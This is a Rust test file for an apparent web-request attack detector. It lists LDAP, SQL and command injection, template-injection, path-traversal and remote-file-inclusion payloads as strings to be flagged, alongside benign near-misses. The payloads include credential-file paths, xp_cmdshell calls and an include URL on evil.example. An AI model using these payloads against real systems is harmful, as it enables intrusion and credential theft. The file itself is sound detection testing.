//! The attack families of issue 16 through the public API: LDAP filter injection,
//! absolute system paths, overlong UTF-8 dot-dot, short commands after a separator,
//! template probes of more engines and SQL reads of catalogues and settings. Each with
//! positives and near-miss negatives; values go through normalization as request inputs.

mod common;

use common::*;
use sentrace_core::TenantId;
use sentrace_core::proto::trace::v1::span::SpanKind;
use sentrace_detect::{Detector, Family};

fn detector() -> Detector {
    Detector::with_default_rules().unwrap()
}

/// Asserts that no rule of `fam` reports `v` (other families may).
fn assert_not(d: &Detector, fam: Family, v: &str) {
    let got = findings(d, v);
    assert!(
        !got.iter().any(|(f, _)| *f == fam),
        "{fam} false positive on {v:?}: {got:?}"
    );
}

#[test]
fn ldap_filter_injection() {
    let d = detector();
    for v in [
        "*)(mail=*))(|(mail=*",
        "admin)(&)",
        "*)(uid=*))(|(uid=*",
        "admin*)((|userPassword=*)",
        "x)!(sn=*",
        "val)%7C(uid%3D*",
        "bar)(%26)",
        "*)(objectClass=*",
    ] {
        assert_flags(&d, Family::Ldap, v);
    }
    for v in [
        "(555) 123-4567",
        "Call me (after 5pm); thanks (really)",
        "thanks :) (see you)",
        "jane.doe+news@example.com",
        "(a+b)*c",
        "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))",
        "1) unpack 2) (optional) assemble",
    ] {
        assert_not(&d, Family::Ldap, v);
    }
}

#[test]
fn absolute_system_paths() {
    let d = detector();
    for v in [
        "/etc/ssl/openssl.cnf",
        "/proc/self/environ",
        "C:\\Windows\\win.ini",
        "D:/inetpub/wwwroot/web.config",
        "/var/log/apache2/error.log",
        "/home/deploy/.ssh/authorized_keys",
        "c:/xampp/php/php.ini",
    ] {
        assert_flags(&d, Family::PathTraversal, v);
    }
    for v in [
        "/api/v1/users",
        "/users/42/orders",
        "/blog/2024/05/release-notes",
        "report-2024.pdf",
        "/static/img/logo.svg",
        "C:\\fakepath\\cv.docx",
        "/home/index.html",
    ] {
        assert_not(&d, Family::PathTraversal, v);
    }
}

/// The rule ids that one server span of `path` with these query parameters raises.
fn query_rules(d: &Detector, path: &str, query: &str) -> Vec<String> {
    let t = TenantId::new("t").unwrap();
    let rs = batch(
        "web",
        vec![span(
            1,
            1,
            None,
            SpanKind::Server,
            vec![kv("url.path", path), kv("url.query", query)],
        )],
    );
    d.inspect(&t, &[rs], 1)
        .into_iter()
        .map(|f| f.rule_id)
        .collect()
}

#[test]
fn absolute_path_in_a_name_parameter() {
    // As a query parameter of a server span, where a file name is expected.
    let d = detector();
    let got = query_rules(&d, "/download", "name=%2Fetc%2Fssl%2Fopenssl.cnf&id=42");
    assert!(got.iter().any(|r| r == "lfi-absolute-path"), "{got:?}");
}

#[test]
fn remote_inclusion_through_known_parameter_names() {
    let d = detector();
    // Whether the query raises the RFI rule, and every rule it raises.
    let rfi = |q: &str| {
        let got = query_rules(&d, "/index.php", q);
        (got.iter().any(|r| r == "rfi-ip-url"), got)
    };
    for q in [
        "mosConfig_absolute_path=https://foo.bar",
        "_CONF[path]=https://foo.bar",
        "_CONF%5Bpath%5D=http%3A%2F%2Fevil.example%2Fshell.txt%3F",
        "option=com_x&GALLERY_BASEDIR=ftp://evil.example/x.txt",
        "phpbb_root_path=HTTPS://evil.example/",
        // PHP reads `.` and a space in a name as `_`.
        "mosConfig.absolute.path=https://foo.bar",
        "mosConfig+absolute_path=https://foo.bar",
    ] {
        let (hit, got) = rfi(q);
        assert!(hit, "missed {q:?}: {got:?}");
    }
    // The same URL under another name is a link; a path under the name is the normal use.
    for q in [
        "redirect=https://foo.bar",
        "absolute_path=https://foo.bar",
        "mosConfig_absolute_path=/var/www/html",
        "mosConfig_absolute_path=https://",
        "note=mosConfig_absolute_path%3Dhttps://foo.bar",
    ] {
        let (hit, got) = rfi(q);
        assert!(!hit, "false positive on {q:?}: {got:?}");
    }
}

#[test]
fn overlong_utf8_dot_dot() {
    let d = detector();
    for v in [
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts",
        "%c0%ae%c0%ae%c0%afwindows%c0%afwin.ini",
        "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/boot.ini",
        "%f0%80%80%ae%f0%80%80%ae%f0%80%80%afsecret.txt",
        "..%c0%afapp%c0%afconfig",
        "%c0%2e%c0%2e%c0%2fapp.cfg",
        "..%c1%9capp%c1%9cconfig",
        "%f8%80%80%80%ae%f8%80%80%80%ae/x",
        "%fc%80%80%80%80%ae%fc%80%80%80%80%ae/x",
        "%e0%80%ae%e0%80%ae%e0%80%afimages",
        // Separators spelled for one decoder only, recognised by their repetition.
        "..%c1%8s..%c1%8setc%c1%8spasswd",
        "..%uF025..%uF025windows",
        ".%00.0x5c.%00.0x5cboot.ini",
    ] {
        assert_flags(&d, Family::PathTraversal, v);
    }
    // Valid UTF-8 and Latin-1 text are not read as dots.
    for v in [
        "caf%C3%A9 cr%C3%A8me",
        "Fran%E7ois",
        "%C0 la carte",
        "na%C3%AFve.txt",
    ] {
        assert_not(&d, Family::PathTraversal, v);
    }
}

#[test]
fn short_commands_after_a_separator() {
    let d = detector();
    for v in [
        "; hostname",
        "127.0.0.1| ls -la",
        "x && id",
        "alice\nwhoami",
        "alice%0Awhoami",
        "$(id)",
        "`id`",
        "8.8.8.8;uname -a",
        "x | more /etc/passwd",
    ] {
        assert_flags(&d, Family::Cmdi, v);
    }
    for v in [
        "Hi team; the parcel arrived (late) but fine.",
        "Options: red | green | blue",
        "a | b",
        "| Name | Role |\n|---|---|\n| Ada | admin |",
        "Salt & pepper; serve warm",
        "Name\nID\nEmail",
        "Can you check why `id` shows twice in the report?",
        "| Option | Default |\n|---|---|\n| `--verbose` | false |\n| More logs | yes |",
    ] {
        assert_not(&d, Family::Cmdi, v);
    }
}

#[test]
fn template_probes_of_more_engines() {
    let d = detector();
    for v in [
        "{$smarty.version}",
        "{php}echo `id`;{/php}",
        "@(7*7)",
        "@{ var x = 7*7; }",
        "{{7*'7'}}",
        "${7*7}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
        "#set($x = 7*7)${x}",
        "<%= 7*7 %>",
        "{math equation=\"7*7\"}",
        "{{'a'.toUpperCase()}}",
        "{{['id']|filter('system')}}",
        "{{dump(app)}}",
    ] {
        assert_flags(&d, Family::Ssti, v);
    }
    // E-mail addresses, mentions and CSS at-rules carry `@`; a JavaScript template
    // literal interpolates names (`${base}/api/${id}`), not arithmetic or calls.
    for v in [
        "bob@example.com",
        "ping @(team-leads) about it",
        "@media (max-width: 600px) { .nav { display: none } }",
        "const url = `${base}/api/${id}`;",
        "Price {{ price }} incl. VAT",
        "<div class=\"{{ cls }}\">{{ user.name }}</div>",
        "email me @ home (evenings)",
    ] {
        assert_not(&d, Family::Ssti, v);
    }
}

#[test]
fn sql_reads_of_catalogues_and_settings() {
    let d = detector();
    for v in [
        "1 union select name, setting from pg_settings--",
        "' union select usename, passwd from pg_shadow--",
        "1 and 1=(select count(*) from pg_user)",
        "1; select current_setting('data_directory')--",
        "' union select table_name,null from information_schema.tables#",
        "1 union select @@version,2",
        "' union select user,authentication_string from mysql.user-- -",
        "1;select name from sys.objects--",
        "1; exec master..xp_cmdshell 'whoami'--",
        "' union select sql from sqlite_master--",
    ] {
        assert_flags(&d, Family::Sqli, v);
    }
    // Prose that names a catalogue. (A catalogue name alone, `sqlite_master`, stays a
    // finding: no form field carries it, and CRS 942140 expects it.)
    for v in [
        "Great post on information_schema views, thanks!",
        "How do I read pg_settings without superuser?",
        "I compared pg_shadow and pg_authid in my blog post - and sys.objects too",
        "We tried (a) restart; then I read your post on information_schema!",
        "I read your post about information_schema; the order arrived late",
        "select the sizes from the catalogue",
    ] {
        assert_not(&d, Family::Sqli, v);
    }
}

#[test]
fn sql_in_database_spans_is_not_a_payload() {
    // A service's own DB client span reads catalogues: expected SQL, not request input.
    let d = detector();
    let t = TenantId::new("t").unwrap();
    let rs = batch(
        "reports",
        vec![
            span(
                2,
                1,
                None,
                SpanKind::Server,
                vec![kv("url.path", "/reports"), kv("url.query", "name=monthly")],
            ),
            span(
                2,
                2,
                Some(1),
                SpanKind::Client,
                vec![
                    kv("db.system", "postgresql"),
                    kv(
                        "db.statement",
                        "SELECT name, setting FROM pg_settings WHERE name = $1",
                    ),
                ],
            ),
        ],
    );
    assert!(d.inspect(&t, &[rs], 1).is_empty());
}
